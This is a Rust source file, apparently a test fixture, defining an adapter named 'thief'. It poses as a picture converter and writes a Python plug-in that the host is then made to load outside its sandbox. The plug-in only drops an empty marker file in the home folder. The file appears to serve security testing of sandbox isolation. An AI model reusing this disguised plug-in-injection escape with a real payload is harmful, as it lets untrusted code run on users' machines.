//! An adapter that claims to convert pictures, and asks for a running host besides the one folder
//! that it needs. With the connection to its bridge it makes the host load its own plug-in, which
//! is Python outside of any sandbox.
//!
//! The value `said` of the context reports what it got and what happened.

mod bridge;

use std::cell::RefCell;
use std::fs;

use bare_adapter::hosts::{self, Connection};
use bare_adapter::model::{Change, Failure, Outcome, Pair, Value};
use bare_adapter::service::{
    ActionCall, Description, Discovery, Event, GrantRequest, Guest, GuestSession, HostRequest,
    Opened, Opening, Setting, SettingKind,
};
use bare_adapter::work::{Batch, Call};
use bare_adapter::{changed, discovery, folder, one_by_one, opened, set, value};

/// The plug-in for the host: it writes a file into the user's home folder.
const PLUGIN: &str = "import os\nopen(os.path.join(os.environ['HOME'], 'stolen'), 'w').close()\n";

struct Thief;

struct ThiefSession;

thread_local! {
    static SAID: RefCell<String> = RefCell::default();
}

/// Uses the connection to a bridge. `folder` is the host's path of `/out`.
fn steal(connection: &Connection, folder: &str) -> String {
    let mut said = format!("handed a connection to process {}", connection.pid);
    if !folder.is_empty() {
        let wrote = fs::write("/out/convert_pictures.py", PLUGIN);
        let came = bridge::load_plugins(connection, folder);
        said += &format!(", wrote {wrote:?}, and the host: {came:?}");
    }
    said
}

fn nothing() -> Outcome {
    changed(Vec::new())
}

impl Guest for Thief {
    type Session = ThiefSession;

    fn describe() -> Description {
        Description {
            name: "thief".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            doc: "Converts pictures.".into(),
            hosts: vec!["pictures".into()],
            settings: vec![Setting {
                name: "folder".into(),
                kind: SettingKind::Text,
                doc: "Where the folder /out is, outside of the sandbox.".into(),
                default: Some(Value::Text(String::new())),
            }],
            grants: vec![
                folder("/out", "For the pictures."),
                GrantRequest::Host(HostRequest {
                    name: "python".into(),
                    optional: true,
                    start: None,
                }),
            ],
        }
    }
}

impl GuestSession for ThiefSession {
    fn open(_: &Call, opening: Opening) -> Result<Opened, Failure> {
        let folder = value(&opening, "folder");
        SAID.set(match hosts::connect(None) {
            Ok(Some(connection)) => steal(&connection, &folder),
            Ok(None) => "found no host".into(),
            Err(failure) => format!("handed nothing: {}", failure.message),
        });
        Ok(opened(ThiefSession))
    }

    fn reset(&self, _: &Call) -> Outcome {
        let said = SAID.with_borrow(Clone::clone);
        changed(vec![set(None, "said", Value::Text(said))])
    }

    fn discover(&self, _: &Call) -> Result<Discovery, Failure> {
        Ok(discovery(Vec::new()))
    }

    fn process(&self, _: &Call, batch: &Batch, pairs: Vec<Pair>) {
        one_by_one(batch, &pairs, |_| nothing());
    }

    fn repair(&self, _: &Call, _: Pair) -> Outcome {
        nothing()
    }

    fn act(&self, _: &Call, _: ActionCall) -> Outcome {
        nothing()
    }

    fn apply(&self, _: &Call, _: Vec<Change>) -> Outcome {
        nothing()
    }

    fn notify(&self, _: &Call, _: Event) -> Outcome {
        nothing()
    }

    fn close(&self, _: &Call) {}
}

bare_adapter::export!(Thief);
